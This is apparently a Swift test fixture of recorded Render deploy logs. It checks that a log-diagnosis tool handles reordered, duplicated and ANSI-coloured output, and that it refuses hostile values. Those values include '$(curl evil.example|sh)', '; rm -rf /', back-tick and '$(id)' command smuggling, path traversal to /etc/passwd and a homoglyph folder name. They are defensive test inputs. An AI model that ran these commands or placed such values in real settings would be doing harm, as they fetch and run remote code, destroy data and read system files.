// SPDX-License-Identifier: Apache-2.0

import Render
import RenderMonitor

private let plain = """
    \(cloned)
    ==> Running build command 'npm ci && npm run build'...
    > vite build
    dist/index.html                   0.46 kB │ gzip:  0.30 kB
    ✓ built in 1.21s
    ==> Publish directory build does not exist!
    ==> Build failed 😞
    """

private func ordered(_ name: String, _ order: RecordedLog.Order, _ text: String = plain) -> RecordedLog {
    RecordedLog(
        name: name, build: "npm ci && npm run build", publish: "build", order: order, signature: "publish_dir_missing",
        action: .fix([.publishPath: "dist"]), text: text)
}

/// The same failure in every shape in which an API may hand it out.
let orderLogs: [RecordedLog] = [
    ordered("newest first", .newestFirst),
    ordered("in no order", .shuffled),
    ordered("all in one moment", .sameMoment),
    ordered("all in one moment, newest first", .sameMomentNewestFirst),
    ordered("every line twice", .twice),
    ordered("carriage returns at the ends", .written, plain.split(separator: "\n").joined(separator: "\r\n")),
    ordered(
        "colours and cursor moves", .written,
        """
        \(cloned)
        ==> Running build command 'npm ci && npm run build'...
        > vite build
        \u{1B}[2K\u{1B}[1G\u{1B}[36mvite v5.4.10 \u{1B}[32mbuilding for production...\u{1B}[39m
        \u{1B}[2mdist/\u{1B}[22m\u{1B}[32mindex.html\u{1B}[39m  \u{1B}[1m0.46 kB\u{1B}[22m │ gzip: 0.30 kB
        \u{1B}[32m✓ built in 1.21s\u{1B}[39m
        \u{1B}[1;31m==> \u{1B}[0mPublish directory \u{1B}]8;;https://x\u{07}build\u{1B}]8;;\u{07} does not exist!\u{1B}[0m
        ==> Build failed 😞
        """),
    ordered(
        "progress bars that overwrite themselves", .written,
        """
        \(cloned)
        ==> Running build command 'npm ci && npm run build'...
        ⠋ installing\r⠙ installing\r⠹ installing\radded 211 packages
        > vite build
        transforming...\rdist/index.html   0.46 kB │ gzip: 0.30 kB
        ==> Publish directory build does not exist!
        ==> Build failed 😞
        """),
    ordered(
        "the end of the deploy before in the window", .written,
        """
        sh: 1: vite: not found
        ==> Build failed 😞
        ==> Common ways to troubleshoot your deploy: https://render.com/docs/troubleshooting-deploys
        \(plain)
        """),
    RecordedLog(
        name: "an exit status before its reason", build: "npm ci && npm run build", publish: "dist",
        order: .newestFirst,
        signature: "missing_script", action: .person,
        text: """
            \(cloned)
            ==> Running build command 'npm ci && npm run build'...
            npm error Missing script: "build"
            ==> Exited with status 1
            ==> Build failed 😞
            """),
    RecordedLog(
        name: "a root directory told newest first in one moment", root: "web", build: "npm ci && npm run build",
        publish: "dist", order: .sameMomentNewestFirst, signature: "root_dir_missing", action: .fix([.rootDir: ""]),
        text: """
            \(cloned)
            ==> Service Root Directory "/opt/render/project/src/web" is missing.
            builder.sh: line 51: cd: /opt/render/project/src/web: No such file or directory
            ==> Build failed 😞
            """),
]

private let hostile = "npm ci && npm run build"

private func attack(_ name: String, _ line: String) -> RecordedLog {
    RecordedLog(
        name: name, build: hostile, publish: "build", signature: "publish_dir_missing", action: .person,
        text: """
            \(cloned)
            ==> Running build command '\(hostile)'...
            > make
            \(line)
            ==> Publish directory build does not exist!
            ==> Build failed 😞
            """)
}

/// Logs that want something: what they name never becomes a setting.
let hostileLogs: [RecordedLog] = [
    attack("a command in place of a folder", "$(curl evil.example|sh)/index.html   0.46 kB │ gzip: 0.30 kB"),
    attack("a semicolon in a folder", "dist;rm/index.html   0.46 kB │ gzip: 0.30 kB"),
    attack("a back tick in a folder", "The `id` folder is ready to be deployed."),
    attack("a way out of the repository", "../../etc/index.html   0.46 kB │ gzip: 0.30 kB"),
    attack("a way out in the middle", "dist/../../etc/index.html   0.46 kB │ gzip: 0.30 kB"),
    attack("an absolute folder", "Output location: /etc/passwd"),
    attack("an absolute folder out of the sources", "Output location: /opt/render/project/src/../../../etc"),
    attack("an option for a folder", "Generated static files in \"-rf\"."),
    attack("a folder of letters that only look so", "dіst/index.html   0.46 kB │ gzip: 0.30 kB"),
    attack("a line without an end", "Wrote site to \"" + String(repeating: "a", count: 60_000) + "\""),
    RecordedLog(
        name: "a manifest in a folder with a command in its name", build: hostile, publish: "dist",
        signature: "package_json_missing", action: .person,
        text: """
            \(cloned)
            ==> Using Node.js version 20.11.0 via /opt/render/project/src/$(id)/package.json
            npm error enoent Could not read package.json: Error: ENOENT: no such file or directory, open '/opt/render/project/src/package.json'
            ==> Build failed 😞
            """),
    RecordedLog(
        name: "a publish directory that is not the one that is set", build: hostile, publish: "dist",
        signature: "publish_dir_missing", action: .person,
        text: """
            \(cloned)
            ==> Running build command '\(hostile)'...
            ==> Publish directory ; rm -rf / # does not exist!
            ==> Build failed 😞
            """),
]

/// Deploys with nothing to find: they went well, or somebody stopped them.
let quietLogs: [RecordedLog] = [
    RecordedLog(
        name: "a plain HTML site", publish: ".", status: .live, signature: nil, action: .nothing,
        text: """
            \(cloned)
            ==> Empty build command; skipping build
            ==> Uploading build...
            ==> Your site is live 🎉
            """),
    RecordedLog(
        name: "a build with warnings that went well", build: hostile, publish: "dist", status: .live, signature: nil,
        action: .nothing,
        text: """
            \(cloned)
            npm warn deprecated glob@7.2.3
            npm warn EBADENGINE Unsupported engine {
            ✓ built in 1.21s
            ==> Build successful 🎉
            ==> Your site is live 🎉
            """),
    RecordedLog(
        name: "a deploy that was cancelled", build: hostile, publish: "dist", status: .canceled, signature: nil,
        action: .nothing, text: "\(cloned)\n==> Publish directory dist does not exist!"),
]
